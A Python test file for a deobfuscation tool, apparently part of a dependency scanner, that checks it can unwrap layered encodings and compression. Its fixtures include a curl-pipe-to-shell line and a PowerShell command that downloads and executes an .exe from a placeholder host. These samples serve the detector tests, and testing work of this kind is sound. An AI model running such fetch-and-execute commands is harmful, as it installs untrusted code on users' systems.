"""Chains of codecs peel back to what they hide."""

from __future__ import annotations

import base64
import binascii
import bz2
import codecs
import gzip
import lzma
import quopri
import zlib
from collections.abc import Callable
from urllib.parse import quote_from_bytes

import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st

from pydepgate.model import Literal, Payload
from pydepgate.payload.peel import Budget, peel

PROGRAM = (
    b"import os\nimport socket\nimport subprocess\n\n\ndef run(name):\n    "
    b"return subprocess.check_output(['echo', name])\n\n\nfor item in os.listdir('.'):\n    print(run(item))\n"
)
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8".ljust(0x3C, b"\0")
    + b"\x80\0\0\0"
    + b"\x0e\x1f\xba\x0e\x00This program cannot be run in DOS mode.\r\r\n$".ljust(64, b"\0")
    + b"PE\0\0\x64\x86\x03\0".ljust(200, b"\0")
)
PEM = (
    b"-----BEGIN PUBLIC KEY-----\n"
    + base64.encodebytes(bytes.fromhex("302a300506032b6570032100") + bytes(range(32)))
    + b"-----END PUBLIC KEY-----\n"
)
TEXT = b"curl -s https://files.example/install.sh | sh # then wait for the machine to come back\n"
CONTENTS = {"python-source": PROGRAM, "pe": PE, "ed25519-public-key": PEM, "shell-script": TEXT}


def raw_deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def uuencode(data: bytes) -> bytes:
    lines = (binascii.b2a_uu(data[start : start + 45]) for start in range(0, len(data), 45))
    return b"begin 644 x\n" + b"".join(lines) + b"`\nend\n"


def rot13(data: bytes) -> bytes:
    return codecs.encode(data.decode("latin-1"), "rot13").encode("latin-1")


COMPRESS: dict[str, Callable[[bytes], bytes]] = {
    "zlib": zlib.compress,
    "deflate": raw_deflate,
    "gzip": lambda data: gzip.compress(data, mtime=0),
    "bz2": bz2.compress,
    "xz": lzma.compress,
}
ENCODE: dict[str, Callable[[bytes], bytes]] = {
    "base64": base64.b64encode,
    "base32": base64.b32encode,
    "base85": base64.b85encode,
    "ascii85": base64.a85encode,
    "hex": lambda data: data.hex().encode(),
    "int-list": lambda data: str(list(data)).encode(),
    "escape": lambda data: "".join(f"\\x{byte:02x}" for byte in data).encode(),
    "percent": lambda data: "".join(f"%{byte:02X}" for byte in data).encode(),
    "quoted-printable": lambda data: b"".join(b"=%02X" % byte for byte in data),
    "uuencode": uuencode,
    "utf-16": lambda data: (data if data.isascii() else base64.b64encode(data)).decode().encode("utf-16-le"),
    "alphabet": lambda data: "".join(chr(0x4E00 + byte) for byte in data).encode(),
}
DISGUISE: dict[str, Callable[[bytes], bytes]] = {"reverse": lambda data: data[::-1], "rot13": rot13}


def literal(value: str | bytes) -> Literal:
    return Literal(value, "bytes" if isinstance(value, bytes) else "str", 3, 5, len(value))


def peeled(value: str | bytes, budget: Budget | None = None) -> Payload:
    payload = peel(literal(value), budget=budget or Budget(keep_content=True))
    assert payload is not None
    return payload


@pytest.mark.parametrize("kind", CONTENTS)
@pytest.mark.parametrize("codec", [*COMPRESS, *(name for name in ENCODE if name != "utf-16")])
def test_each_codec_alone(kind: str, codec: str) -> None:
    encoded = (COMPRESS | ENCODE)[codec](CONTENTS[kind])
    payload = peeled(encoded)
    assert payload.content == CONTENTS[kind]
    assert [layer.codec for layer in payload.layers] == [codec]
    assert (payload.layers[0].size_in, payload.layers[0].size_out) == (len(encoded), len(CONTENTS[kind]))
    assert payload.final == kind


@pytest.mark.parametrize("codec", DISGUISE)
@pytest.mark.parametrize("content", [PROGRAM, base64.b64encode(PROGRAM), zlib.compress(PROGRAM).hex().encode()])
def test_each_disguise(codec: str, content: bytes) -> None:
    payload = peeled(DISGUISE[codec](content))
    assert payload.layers[0].codec == codec
    assert payload.content == PROGRAM


@given(
    steps=st.lists(st.sampled_from([*COMPRESS, *ENCODE]), min_size=2, max_size=5),
    kind=st.sampled_from(list(CONTENTS)),
)
@example(steps=["utf-16", "utf-16", "utf-16"], kind="python-source")
@settings(max_examples=150, deadline=None)
def test_chains_of_two_to_five(steps: list[str], kind: str) -> None:
    # an alphabet under another one leaves so few different symbols that they may be the digits of something else
    assume(steps.count("alphabet") < 2)
    content = data = CONTENTS[kind]
    for step in steps:
        data = (COMPRESS | ENCODE)[step](data)
    assert peeled(data).content == content


@given(
    steps=st.lists(
        st.sampled_from(["base64", "base32", "base85", "hex", "zlib", "gzip", "reverse", "rot13"]),
        min_size=1,
        max_size=4,
    ),
)
@settings(max_examples=100, deadline=None)
def test_chains_with_disguises_of_text(steps: list[str]) -> None:
    data = PROGRAM
    last = ""
    for step in steps:
        # A disguise of compressed bytes shows nothing to go by, nor does one disguise on another.
        if step not in DISGUISE or (last not in COMPRESS and last not in DISGUISE):
            data = (COMPRESS | ENCODE | DISGUISE)[step](data)
            last = step
    assert peeled(data).content == PROGRAM


def test_powershell_encoded_command() -> None:
    script = "Invoke-WebRequest -Uri https://files.example/a.exe -OutFile $env:TEMP\\a.exe; iex $env:TEMP\\a.exe"
    payload = peeled(base64.b64encode(script.encode("utf-16-le")).decode())
    assert [layer.codec for layer in payload.layers] == ["base64", "utf-16"]
    assert (payload.final, payload.content) == ("powershell", script.encode())


def test_variants_of_writing() -> None:
    for encoded in (
        base64.encodebytes(PROGRAM),
        base64.b64encode(PROGRAM).rstrip(b"="),
        base64.urlsafe_b64encode(zlib.compress(PROGRAM)),
        base64.a85encode(PROGRAM, adobe=True),
        base64.a85encode(PROGRAM, wrapcol=72),
        base64.b32encode(PROGRAM).lower(),
        b"0x" + PROGRAM.hex().encode(),
        PROGRAM.hex(":").encode(),
        PROGRAM.hex(" ").upper().encode(),
        quote_from_bytes(PROGRAM).encode(),
        quopri.encodestring(b"x = 1\n" * 8 + PROGRAM),
        " ".join(f"{byte:08b}" for byte in PROGRAM).encode(),
        ",".join(map(hex, PROGRAM)).encode(),
        " ".join(map(str, PROGRAM)).encode(),
        "".join(f"\\u{byte:04x}" for byte in PROGRAM).encode(),
        "".join(f"\\{byte:03o}" for byte in PROGRAM).encode(),
    ):
        content = peeled(encoded).content
        assert content is not None
        assert content.endswith(PROGRAM)
